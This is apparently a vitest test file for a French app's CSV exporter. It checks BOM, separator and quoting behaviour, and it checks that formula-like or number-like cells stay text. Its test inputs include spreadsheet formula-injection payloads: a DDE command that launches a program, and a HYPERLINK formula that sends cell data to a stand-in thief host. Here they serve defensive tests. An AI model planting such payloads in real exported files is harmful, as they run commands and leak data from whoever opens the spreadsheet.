import { describe, expect, test } from 'vitest'
import { toCsv } from './csv'

function cell(value: string): string {
  return toCsv([[value]]).slice(1, -2)
}

test('a file starts with a byte order mark; cells end with ; and lines with CRLF', () => {
  expect(toCsv([])).toBe('\ufeff')
  expect(
    toCsv([
      ['Section', 'Preuve de succès'],
      ['été', ''],
    ]),
  ).toBe('\ufeffSection;Preuve de succès\r\nété;\r\n')
})

test.each([
  ['a;b', '"a;b"'],
  ['dit « "oui" »', '"dit « ""oui"" »"'],
  ['une\r\ndeux\rtrois\nquatre', '"une\ndeux\ntrois\nquatre"'],
  [' bord ', '" bord "'],
  ['a,b', '"a,b"'],
  ['a\tb', '"a\tb"'],
  ['', ''],
  ['a\u0000b', 'ab'],
])('%j is written %j', (value, written) => {
  expect(cell(value)).toBe(written)
})

describe('a cell that starts like a formula is text', () => {
  test.each([
    ["=cmd|'/C calc'!A0"],
    ['=HYPERLINK("https://voleur.exemple/?"&A1)'],
    ['+33 6 12 34 56 78'],
    ['-2+3'],
    ['- une remarque'],
    ['@SUM(A1)'],
    ['\t=1'],
    ['\r=1'],
    ['\n=1'],
    ['  =1'],
    ['\u00a0=1'],
    ['\u200b=1'],
    ['\u0000=1'],
    ['＝1+1'],
    ['-12,50+A1'],
    ['-12,50'],
    ['\ufeff=1'],
    ['--1'],
    ['-'],
    ['−12,50'],
    ['\u202a=1'],
    ['\u061c=1'],
    ['\u3164=1'],
    ['\u0001=1'],
  ])('%j', (value) => {
    expect(cell(value)).toMatch(/^"?'/)
  })

  test.each([['https://ex.fr/?a=b'], ['a=b'], ['Oui'], ['ana@ex.fr'], ['(=1)']])(
    '%j is left alone',
    (value) => {
      expect(cell(value)).toBe(value)
    },
  )
})

describe('a text that a spreadsheet would read as something else stays text', () => {
  test.each([
    ['1/2'],
    ['00123'],
    ['0612345678'],
    ['1-2'],
    ['1.2'],
    ['12,50'],
    ['1 234'],
    ['29,90 €'],
    ['50 %'],
    ['12:30'],
    ['12:30 PM'],
    ['1e5'],
    ['12E10'],
    ['1234567890123456'],
    ['4012345678901234'],
    ['12 mars'],
    ['mars 2026'],
    ['3-juin-26'],
    ['déc. 24'],
    ['2026-11-21'],
    ['(12)'],
    ['VRAI'],
    ['faux'],
    [' 00123 '],
    ['12 mars 2026 14:30'],
    ['2026-11-21T14:30:00Z'],
    ['１/２'],
    ['#N/A'],
    ['#VALEUR!'],
  ])('%j', (value) => {
    expect(cell(value)).toMatch(/^"?'/)
  })

  test.each([
    ['42'],
    ['0'],
    ['123456789012345'],
    ['3 lampes'],
    ['mars'],
    ['Mai'],
    ['2 marseillaises à 3'],
    ['1/2 litre'],
    ['pièce 12'],
    ['#PROMO'],
    ['12 mars 2026 à 14:30'],
    ['12 m²'],
  ])('%j is left alone', (value) => {
    expect(cell(value).replaceAll('"', '')).toBe(value)
  })
})

test('numbers and dates of the app stay unchanged, negative amounts included', () => {
  const value = (text: string) => toCsv([[{ value: text }]]).slice(1, -2)
  for (const text of ['0', '-3', '31', '21/11/2026', '']) expect(value(text)).toBe(text)
  // Quoted, because LibreOffice also splits at commas; a quoted number remains a number.
  for (const text of ['12,50', '-12,50']) expect(value(text)).toBe(`"${text}"`)
})
